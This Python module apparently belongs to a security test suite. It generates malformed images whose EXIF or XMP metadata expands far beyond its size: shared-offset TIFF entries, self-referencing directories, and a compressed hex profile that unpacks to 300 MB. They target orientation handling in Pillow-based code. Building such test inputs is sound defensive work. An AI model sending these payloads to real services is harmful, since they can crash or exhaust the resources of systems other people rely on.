"""EXIF and XMP that unfold to far more than they are, read for the orientation that exif=True asks for."""

from __future__ import annotations

import struct
import zlib
from functools import partial

from PIL import Image

from support.attacks.attack import Attack
from support.attacks.containers import mpo
from support.writers import png_chunk, saved

TINY = Image.new("RGB", (16, 16))
ORIENTATION = 274
#: TIFF's types of values, and the bytes of one.
TYPES = {"bytes": (1, 1), "text": (2, 1), "shorts": (3, 2), "rationals": (5, 8), "undefined": (7, 1), "doubles": (12, 8)}  # fmt: skip


def shared(entries: int, size: int, kind: str, order: str = "<") -> bytes:
    """`entries` entries that all refer to the same `size` bytes."""
    number, width = TYPES[kind]
    start = 8 + 2 + 12 * entries + 4
    made = [struct.pack(f"{order}HHIHH", ORIENTATION, 3, 1, 6, 0)]
    made += [
        struct.pack(f"{order}HHII", 0x100, number, size // width, start) for _ in range(entries - 1)
    ]
    head = (b"II*\0" if order == "<" else b"MM\0*") + struct.pack(f"{order}IH", 8, entries)
    return head + b"".join(made) + bytes(4) + bytes(size)


def repeated(entries: int) -> bytes:
    """The same tag again and again, and the orientation at the end."""
    made = struct.pack("<HHII", 305, 2, 4, 0) * (entries - 1)
    made += struct.pack("<HHIHH", ORIENTATION, 3, 1, 6, 0)
    return b"II*\0" + struct.pack("<IH", 8, entries) + made + bytes(4)


def circle(tag: int) -> bytes:
    """A directory that has itself for its own part, and for the next one."""
    made = struct.pack("<HHII", tag, 4, 1, 8) + struct.pack("<HHIHH", ORIENTATION, 3, 1, 6, 0)
    return b"II*\0" + struct.pack("<IH", 8, 2) + made + struct.pack("<I", 8)


def png(block: bytes) -> bytes:
    data = saved(TINY, "PNG")
    return data[:33] + png_chunk(b"eXIf", block) + data[33:]


def png_in_hex(block: bytes) -> bytes:
    """As ImageMagick keeps EXIF, packed."""
    lines = b"\nexif\n%8d\n" % (len(block) + 6) + (b"Exif\0\0" + block).hex().encode()
    data = saved(TINY, "PNG")
    packed = b"Raw profile type exif\0\0" + zlib.compress(lines, 9)
    return data[:33] + png_chunk(b"zTXt", packed) + data[33:]


def jpeg(block: bytes) -> bytes:
    assert len(block) < 65_500
    return saved(TINY, "JPEG", exif=b"Exif\0\0" + block)


def jpeg_of_pieces(block: bytes) -> bytes:
    """More than a segment holds: Pillow joins the pieces."""
    data = saved(TINY, "JPEG")
    parts = [block[at : at + 65_000] for at in range(0, len(block), 65_000)]
    made = [b"\xff\xe1" + struct.pack(">H", len(part) + 8) + b"Exif\0\0" + part for part in parts]
    return data[:2] + b"".join(made) + data[2:]


def webp(block: bytes) -> bytes:
    return saved(TINY, "WEBP", exif=block)


def avif(block: bytes) -> bytes:
    """Pillow writes only EXIF that it has read, so that another block of that length is put in its place."""
    exif = Image.Exif()
    exif[0x9286] = bytes(len(block))
    data = saved(TINY, "AVIF", exif=exif)
    at = max(data.find(b"II*\0"), data.find(b"MM\0*"))
    return data[:at] + block + data[at + len(block) :]


def multi_picture(block: bytes) -> bytes:
    return mpo(jpeg(block))


def itself(block: bytes) -> bytes:
    """A block is a TIFF without an image."""
    return block


def xmp(packet: bytes) -> bytes:
    data = saved(TINY, "PNG")
    return data[:33] + png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet) + data[33:]


BLOCKS = {
    **{
        f"2,700 entries over the same 32 KB of {kind}": partial(shared, 2700, 32_000, kind)
        for kind in TYPES
    },
    "2,700 entries over the same 32 KB of text, big-endian": partial(shared, 2700, 32_000, "text", ">"),
    "a tag 5,000 times": partial(repeated, 5000),
    "an Exif directory inside itself": partial(circle, 0x8769),
    "a GPS directory inside itself": partial(circle, 0x8825),
    "an interoperability directory inside itself": partial(circle, 0xA005),
}  # fmt: skip
LARGE = {
    f"30,000 entries over the same 1 MB of {kind}": partial(shared, 30_000, 1_000_000, kind)
    for kind in ("bytes", "text", "rationals")
}
ATTACKS = (
    *(
        Attack(f"{name}, in {kind}", partial(lambda wrap, make: wrap(make()), wrap, make), "exif=True")
        for kind, wrap in (
            ("a JPEG", jpeg), ("a PNG", png), ("a WebP", webp), ("an AVIF", avif), ("an MPO", multi_picture), ("a TIFF", itself),
        )
        for name, make in BLOCKS.items()
    ),
    *(
        Attack(f"{name}, in {kind}", partial(lambda wrap, make: wrap(make()), wrap, make), "exif=True")
        for kind, wrap in (
            ("a PNG", png), ("a PNG in hex", png_in_hex), ("a WebP", webp), ("pieces of a JPEG", jpeg_of_pieces),
            ("an AVIF", avif), ("a TIFF", itself),
        )
        for name, make in LARGE.items()
    ),
    Attack("20 MB of XMP without an orientation", lambda: xmp(b"<x>" + b"tiff:Orientation=" * 1_200_000), "exif=True"),
    Attack("a PNG's EXIF in hex that unpacks to 300 MB", lambda: png_in_hex(bytes(150_000_000)), "exif=True"),
)  # fmt: skip
